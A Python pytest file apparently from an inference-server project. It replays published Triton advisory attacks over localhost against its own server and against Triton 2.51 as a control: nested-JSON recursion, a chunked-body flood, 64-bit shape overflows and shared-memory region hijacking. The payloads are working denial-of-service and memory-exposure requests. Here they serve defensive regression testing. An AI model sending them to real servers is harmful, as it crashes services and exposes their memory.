"""Classes of advisories, shown on Triton 2.51 as a positive control, and sent to this server.

The requests are made from the descriptions of the advisories. Triton is that of `benchmarks/harness/triton_install.py`.
"""

import http.client
import json
import os
import re
import socket
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import TypeAlias

import psutil
import pytest
from benchmarks.harness.triton_install import TritonInstall

from tests.support.models import tensor, write_python
from tests.support.server_process import ConchProcess, LoggedProcess

ROOT = Path(__file__).parents[3]
TRITON = TritonInstall(ROOT / ".bench")
CODE = 'return pb_utils.InferenceResponse([pb_utils.Tensor("OUTPUT0", request.inputs()[0].as_numpy())])'
OBJECTS = Path("/dev/shm")


def post(port: int, path: str, body: bytes) -> int:
    """Return the status of an answer, 0 if there is none."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        connection.request("POST", path, body)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def nest(port: int, _own: Callable[[], set[str]]) -> bool:
    """CVE-2025-23325, CVE-2025-33202: recursion over nested JSON."""
    post(port, "/v2/models/m/infer", b'{"inputs":' + b"[" * 200_000 + b"]" * 200_000 + b"}")
    return False


def divide(port: int, _own: Callable[[], set[str]]) -> bool:
    """CVE-2025-23310, CVE-2025-23311: a body in millions of chunks."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as client, suppress(OSError):
        client.sendall(b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(300):
            client.sendall(b"1\r\n{\r\n" * 10_000)
        client.sendall(b"0\r\n\r\n")
        client.recv(4096)
    return False


def overflow(port: int, _own: Callable[[], set[str]]) -> bool:
    """CVE-2025-23323, CVE-2025-23326 and others: shapes whose size in bytes exceeds 64 bits."""
    for shape in ([2**63 - 1], [2**62 + 1], [2**61]):
        tensor = {"name": "INPUT0", "datatype": "FP32", "shape": shape, "data": [1]}
        post(port, "/v2/models/m/infer", json.dumps({"inputs": [tensor]}).encode())
    return False


def register(port: int, own: Callable[[], set[str]]) -> bool:
    """CVE-2025-23319 and its chain: the server's own shared memory as a region of a client."""
    body = {"offset": 0, "byte_size": 64}
    return any(
        post(port, f"/v2/systemsharedmemory/region/{number}/register", json.dumps(body | {"key": f"/{name}"}).encode())
        == 200
        for number, name in enumerate(own())
    )


Attack: TypeAlias = Callable[[int, Callable[[], set[str]]], bool]
ATTACKS: list[Attack] = [nest, divide, overflow, register]


def shared_memory() -> set[str]:
    return {path.name for path in OBJECTS.iterdir()}


def shared_memory_of(pid: int) -> set[str]:
    """Return the names of the objects in /dev/shm that a process or one of its children has mapped."""
    processes = [psutil.Process(pid), *psutil.Process(pid).children(recursive=True)]
    paths = {Path(region.path) for process in processes for region in process.memory_maps()}
    return {path.name for path in paths if path.parent == OBJECTS}


def is_alive(port: int) -> bool:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/v2/health/live", timeout=60) as response:
            return response.status == 200
    except OSError:
        return False


def write_models(root: Path) -> Path:
    fields = f"input {tensor('INPUT0', 'FP32', -1)} output {tensor('OUTPUT0', 'FP32', -1)}"
    write_python(root, "m", fields, CODE)
    return root


@pytest.fixture(scope="module")
def conch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConchProcess]:
    root = tmp_path_factory.mktemp("advisories")
    with ConchProcess(write_models(root / "models"), "--allow-client-shm=true", log=root / "log") as server:
        yield server


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_this_server_withstands(conch: ConchProcess, attack: Attack) -> None:
    port = conch.ports["http"]
    assert not attack(port, lambda: shared_memory_of(conch.process.pid))
    assert is_alive(port)


class TritonProcess(LoggedProcess):
    """A Triton that may crash."""

    def __init__(self, models: Path, log: Path) -> None:
        self.log = log
        self._before = shared_memory()
        flags = [f"--model-repository={models}", f"--backend-directory={TRITON.backends}", "--http-address=127.0.0.1"]
        ports = [f"--{name}-port={free}" for name, free in zip(("http", "grpc", "metrics"), free_ports(3), strict=True)]
        environment = os.environ | {
            "LD_LIBRARY_PATH": TRITON.library_path,
            "PATH": f"{TRITON.environment / 'bin'}{os.pathsep}{os.environ['PATH']}",
        }
        with log.open("wb") as output:
            self.process = subprocess.Popen(
                [TRITON.binary, *flags, *ports], stdout=output, stderr=output, env=environment
            )

    def own(self) -> set[str]:
        """Return the names of the objects of shared memory that it may have made."""
        return {name for name in shared_memory() - self._before if "triton" in name}

    def port(self) -> int:
        """Wait for the HTTP port, which listens a moment after the line about it."""
        started = None
        while started is None or not is_alive(int(started[1])):
            assert self.process.poll() is None, self.text[-2000:]
            with suppress(subprocess.TimeoutExpired):
                self.process.wait(0.2)
            started = re.search(r"Started HTTPService at \S*:(\d+)", self.text)
        return int(started[1])


def free_ports(count: int) -> list[int]:
    opened = [socket.create_server(("127.0.0.1", 0)) for _ in range(count)]
    try:
        return [server.getsockname()[1] for server in opened]
    finally:
        for server in opened:
            server.close()


@contextmanager
def triton_process(folder: Path) -> Iterator[TritonProcess]:
    process = TritonProcess(write_models(folder / "models"), folder / "log")
    try:
        yield process
    finally:
        if process.process.poll() is None:
            process.process.kill()
        process.process.wait()
        for name in process.own():
            (OBJECTS / name).unlink(missing_ok=True)


@pytest.mark.triton
@pytest.mark.skipif(
    not TRITON.backends.exists(),
    reason="Triton 2.51 is not there: `python -m benchmarks.harness.triton_install` sets it up",
)
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_triton_does_not(tmp_path: Path, attack: Attack) -> None:
    with triton_process(tmp_path) as process:
        port = process.port()
        accepted = attack(port, process.own)
        if not accepted:
            process.process.wait(60)
        assert accepted or not is_alive(port)


def test_the_page_names_tests_that_exist() -> None:
    page = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    section = page.partition("## Published advisories")[2].partition("\n## ")[0]
    rows = [line.split(" | ") for line in section.splitlines() if line.startswith("| ")][2:]
    assert len(rows) == 21
    for row in rows:
        tests = re.findall(r"`([\w/]+\.py)::(\w+)`", row[3])
        assert tests, row
        for path, name in tests:
            assert f"def {name}(" in (ROOT / "tests" / path).read_text(encoding="utf-8"), (path, name)
